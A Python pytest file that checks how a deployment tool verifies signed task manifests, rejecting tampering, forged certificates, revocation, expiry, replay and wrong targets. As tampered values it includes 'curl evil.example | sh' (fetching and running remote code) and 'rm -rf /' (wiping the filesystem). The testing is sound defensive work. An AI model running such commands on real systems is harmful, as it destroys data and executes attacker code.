"""Task manifest signatures: every attack of docs/security.md is refused with its own error.

Each refusal test starts from a task that verifies (``test_valid_task_verifies`` is the
control) and changes exactly one thing, then expects the *specific* error: if the check that
defeats the attack were removed, the call would succeed (or fail differently) and the test
would fail.
"""

from __future__ import annotations

import datetime as dt
import os
from pathlib import Path

import msgspec
import pytest

from swarmdeploy.crypto import ca as ca_mod
from swarmdeploy.crypto.operator import ca_issuer, key_id, public_key_of, seed_signer
from swarmdeploy.crypto.rejections import (
    ArtifactMismatch,
    BadSignature,
    CertificateExpired,
    Malformed,
    ManifestExpired,
    NotAuthorized,
    RevokedSigner,
    Rollback,
    UnknownSigner,
    VerificationError,
    WrongTarget,
    WrongTask,
)
from swarmdeploy.crypto.signing import (
    MANIFEST_DOMAIN,
    ArtifactFacts,
    Revocations,
    SignedFacts,
    Target,
    check_signed,
    sign_manifest,
    verify_artifact,
    verify_installed,
)
from tests.crypto import signing_rig as rig
from tests.crypto.signing_rig import DAY_MS, NOW_MS, TARGET, manifest, new_operator, verify


@pytest.fixture(scope="module")
def alice() -> rig.Operator:
    return new_operator()


def test_valid_task_verifies(alice: rig.Operator) -> None:
    data = manifest()
    verified = verify(data, alice.sign(data), alice.certificate)
    assert verified.manifest == data
    assert verified.facts.task_id == rig.TASK
    assert verified.facts.sequence == 10
    assert verified.facts.artifacts[0].size_bytes == len(rig.PAYLOAD)
    assert verified.signer.name == "alice"


def test_tampered_command_bad_signature(alice: rig.Operator) -> None:
    signature = alice.sign(manifest())
    tampered = manifest(run=["curl evil.example | sh"])
    with pytest.raises(BadSignature):
        verify(tampered, signature, alice.certificate)


def test_tampered_artifact_digest_bad_signature(alice: rig.Operator) -> None:
    signature = alice.sign(manifest())
    art = dict(rig.manifest_dict()["artifacts"][0], sha256="0" * 64)
    with pytest.raises(BadSignature):
        verify(manifest(artifacts=[art]), signature, alice.certificate)


def test_tampered_sandbox_policy_bad_signature(alice: rig.Operator) -> None:
    signature = alice.sign(manifest())
    with pytest.raises(BadSignature):
        verify(manifest(sandbox={"network": True}), signature, alice.certificate)


def test_signature_of_another_manifest_bad_signature(alice: rig.Operator) -> None:
    other = alice.sign(manifest(task_id="task-43"))  # mix-and-match: a real signature
    with pytest.raises(BadSignature):
        verify(manifest(), other, alice.certificate)


def test_signature_without_domain_prefix_bad_signature(alice: rig.Operator) -> None:
    data = manifest()
    bare = seed_signer(alice.seed)(data)  # a signature over the bytes alone
    with pytest.raises(BadSignature):
        verify(data, bare, alice.certificate)
    assert seed_signer(alice.seed)(MANIFEST_DOMAIN + data) == alice.sign(data)


def test_signature_wrong_length_bad_signature(alice: rig.Operator) -> None:
    data = manifest()
    with pytest.raises(BadSignature):
        verify(data, alice.sign(data)[:63], alice.certificate)


def test_key_not_in_certificate_bad_signature(alice: rig.Operator) -> None:
    mallory = os.urandom(32)
    data = manifest()
    signature = seed_signer(mallory)(MANIFEST_DOMAIN + data)  # presents alice's certificate
    with pytest.raises(BadSignature):
        verify(data, signature, alice.certificate)


def test_certificate_from_unknown_ca_unknown_signer() -> None:
    other_ca = ca_mod.create_ca("someone else", now=dt.datetime.now(dt.UTC))
    seed = os.urandom(32)
    mallory = rig.Operator(seed, rig.operator_cert(seed, ca=other_ca))
    data = manifest()
    with pytest.raises(UnknownSigner):
        verify(data, mallory.sign(data), mallory.certificate)


def test_certificate_claiming_our_ca_but_signed_by_another_bad_signature() -> None:
    other_ca = ca_mod.create_ca("forger", now=dt.datetime.now(dt.UTC))
    seed = os.urandom(32)
    ours = ca_issuer(rig.authority().public_key_raw)
    forged = rig.Operator(seed, rig.operator_cert(seed, ca=other_ca, issuer=ours))
    data = manifest()
    with pytest.raises(BadSignature):
        verify(data, forged.sign(data), forged.certificate)


def test_revoked_serial_revoked_signer(alice: rig.Operator) -> None:
    data = manifest()
    with pytest.raises(RevokedSigner):
        verify(data, alice.sign(data), alice.certificate, revoked=Revocations(frozenset({7})))


def test_revoked_key_id_revoked_signer(alice: rig.Operator) -> None:
    data = manifest()
    kid = key_id(public_key_of(alice.seed))
    revoked = Revocations(key_ids=frozenset({kid}))
    with pytest.raises(RevokedSigner):
        verify(data, alice.sign(data), alice.certificate, revoked=revoked)


def test_other_serial_revoked_still_verifies(alice: rig.Operator) -> None:
    data = manifest()
    verify(data, alice.sign(data), alice.certificate, revoked=Revocations(frozenset({8})))


def test_viewer_key_not_authorized() -> None:
    viewer = new_operator(role="viewer")
    data = manifest()
    with pytest.raises(NotAuthorized):
        verify(data, viewer.sign(data), viewer.certificate)


def test_certificate_expired_now_refused() -> None:
    old = new_operator(not_before_ms=NOW_MS - 10 * DAY_MS, not_after_ms=NOW_MS - DAY_MS)
    data = manifest(created_at_ms=NOW_MS - 2 * DAY_MS)  # issued while the key was valid
    with pytest.raises(CertificateExpired):
        verify(data, old.sign(data), old.certificate)


def test_certificate_not_yet_valid_beyond_skew_refused() -> None:
    future = new_operator(not_before_ms=NOW_MS + DAY_MS, not_after_ms=NOW_MS + 9 * DAY_MS)
    data = manifest(created_at_ms=NOW_MS + DAY_MS + 1, expires_at_ms=NOW_MS + 2 * DAY_MS)
    with pytest.raises(CertificateExpired):
        verify(data, future.sign(data), future.certificate, last_sequence=0)


def test_certificate_not_yet_valid_within_skew_accepted() -> None:
    soon = new_operator(not_before_ms=NOW_MS + 60_000, not_after_ms=NOW_MS + DAY_MS)
    data = manifest(created_at_ms=NOW_MS + 60_000)
    verify(data, soon.sign(data), soon.certificate)


def test_manifest_issued_outside_certificate_validity_refused() -> None:
    short = new_operator(not_before_ms=NOW_MS - DAY_MS, not_after_ms=NOW_MS + DAY_MS)
    data = manifest(created_at_ms=NOW_MS + 2 * DAY_MS, expires_at_ms=NOW_MS + 3 * DAY_MS)
    with pytest.raises(CertificateExpired, match="outside"):
        verify(data, short.sign(data), short.certificate)


def test_expired_manifest_freeze_refused(alice: rig.Operator) -> None:
    data = manifest(created_at_ms=NOW_MS - 2 * DAY_MS, expires_at_ms=NOW_MS - 1)
    with pytest.raises(ManifestExpired):
        verify(data, alice.sign(data), alice.certificate)


def test_manifest_at_its_expiry_accepted(alice: rig.Operator) -> None:
    data = manifest(expires_at_ms=NOW_MS)
    verify(data, alice.sign(data), alice.certificate)


def test_replayed_manifest_same_sequence_rollback(alice: rig.Operator) -> None:
    data = manifest(sequence=10)
    with pytest.raises(Rollback):
        verify(data, alice.sign(data), alice.certificate, last_sequence=10)


def test_older_manifest_lower_sequence_rollback(alice: rig.Operator) -> None:
    data = manifest(sequence=3)
    with pytest.raises(Rollback):
        verify(data, alice.sign(data), alice.certificate, last_sequence=9)


def test_manifest_for_other_target_wrong_target(alice: rig.Operator) -> None:
    data = manifest(target_ids=["robot-2"], target_tags=["lab"])
    with pytest.raises(WrongTarget):
        verify(data, alice.sign(data), alice.certificate)


def test_manifest_with_empty_selector_wrong_target(alice: rig.Operator) -> None:
    data = manifest(target_ids=[], target_tags=[])
    with pytest.raises(WrongTarget):
        verify(data, alice.sign(data), alice.certificate)


def test_manifest_for_our_tag_accepted(alice: rig.Operator) -> None:
    data = manifest(target_ids=["robot-9"], target_tags=["field"])
    verify(data, alice.sign(data), alice.certificate)


def test_manifest_of_other_task_wrong_task(alice: rig.Operator) -> None:
    data = manifest(task_id="task-1")
    with pytest.raises(WrongTask):
        verify(data, alice.sign(data), alice.certificate)


@pytest.mark.parametrize(
    "change",
    [
        {"sequence": 0},
        {"sequence": "11"},
        {"expires_at_ms": NOW_MS - 120_000},  # before it was issued
        {"task_id": 5},
        {"target_ids": "robot-1"},
    ],
)
def test_invalid_signed_facts_malformed(alice: rig.Operator, change: dict[str, object]) -> None:
    fields = rig.manifest_dict(**change)
    data = msgspec.json.encode(fields, order="sorted")
    signature = seed_signer(alice.seed)(MANIFEST_DOMAIN + data)  # sign_manifest would refuse
    with pytest.raises(Malformed):
        verify(data, signature, alice.certificate)


def test_missing_sequence_malformed(alice: rig.Operator) -> None:
    fields = rig.manifest_dict()
    del fields["sequence"]
    data = msgspec.json.encode(fields, order="sorted")
    with pytest.raises(Malformed):
        sign_manifest(data, seed_signer(alice.seed), alice.certificate)


def test_sign_manifest_with_key_of_other_certificate_refused(alice: rig.Operator) -> None:
    with pytest.raises(BadSignature):
        sign_manifest(manifest(), seed_signer(os.urandom(32)), alice.certificate)


def test_check_signed_detects_change_after_signing(alice: rig.Operator) -> None:
    data = manifest()
    signature = alice.sign(data)
    assert check_signed(data, signature, alice.certificate).name == "alice"
    with pytest.raises(BadSignature):
        check_signed(manifest(install=["rm -rf /"]), signature, alice.certificate)


def _installed(alice: rig.Operator, data: bytes, **overrides: object) -> None:
    kwargs: dict[str, object] = {
        "anchors": rig.anchors(),
        "revoked": Revocations(),
        "target": Target(TARGET),
        "installed_sequence": 10,
    }
    kwargs.update(overrides)
    verify_installed(data, alice.sign(data), alice.certificate, **kwargs)  # type: ignore[arg-type]


def test_installed_manifest_verifies_after_its_delivery_expiry(alice: rig.Operator) -> None:
    _installed(alice, manifest(created_at_ms=NOW_MS - 2 * DAY_MS, expires_at_ms=NOW_MS - DAY_MS))


def test_installed_manifest_of_revoked_key_refused(alice: rig.Operator) -> None:
    with pytest.raises(RevokedSigner):
        _installed(alice, manifest(), revoked=Revocations(frozenset({7})))


def test_installed_manifest_swapped_for_older_one_rollback(alice: rig.Operator) -> None:
    with pytest.raises(Rollback):
        _installed(alice, manifest(sequence=4))


def test_installed_manifest_for_other_target_refused(alice: rig.Operator) -> None:
    with pytest.raises(WrongTarget):
        _installed(alice, manifest(target_ids=["robot-2"], target_tags=[]))


def test_error_codes_are_distinct_and_stable() -> None:
    classes = [
        ArtifactMismatch,
        BadSignature,
        CertificateExpired,
        Malformed,
        ManifestExpired,
        NotAuthorized,
        RevokedSigner,
        Rollback,
        UnknownSigner,
        WrongTarget,
        WrongTask,
    ]
    codes = [cls.code for cls in classes]
    assert len(set(codes)) == len(codes)
    assert all(issubclass(cls, VerificationError) for cls in classes)
    assert Rollback.code == "rollback" and BadSignature.code == "bad_signature"


def _artifact() -> ArtifactFacts:
    return SignedFacts.from_json(manifest()).artifacts[0]


def test_verify_artifact_exact_bytes_and_file_accepted(tmp_path: Path) -> None:
    verify_artifact(_artifact(), rig.PAYLOAD)
    path = tmp_path / "blob"
    path.write_bytes(rig.PAYLOAD)
    verify_artifact(_artifact(), path)


def test_verify_artifact_changed_byte_mismatch(tmp_path: Path) -> None:
    changed = bytes([rig.PAYLOAD[0] ^ 1]) + rig.PAYLOAD[1:]
    with pytest.raises(ArtifactMismatch, match="SHA-256"):
        verify_artifact(_artifact(), changed)
    path = tmp_path / "blob"
    path.write_bytes(changed)
    with pytest.raises(ArtifactMismatch, match="SHA-256"):
        verify_artifact(_artifact(), path)


@pytest.mark.parametrize("content", [rig.PAYLOAD[:-1], rig.PAYLOAD + b"x", b""])
def test_verify_artifact_wrong_size_mismatch(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(ArtifactMismatch, match="size"):
        verify_artifact(_artifact(), content)
    path = tmp_path / "blob"
    path.write_bytes(content)
    with pytest.raises(ArtifactMismatch, match="size"):
        verify_artifact(_artifact(), path)


def test_verify_artifact_missing_file_mismatch(tmp_path: Path) -> None:
    with pytest.raises(ArtifactMismatch, match="missing"):
        verify_artifact(_artifact(), tmp_path / "nothing")
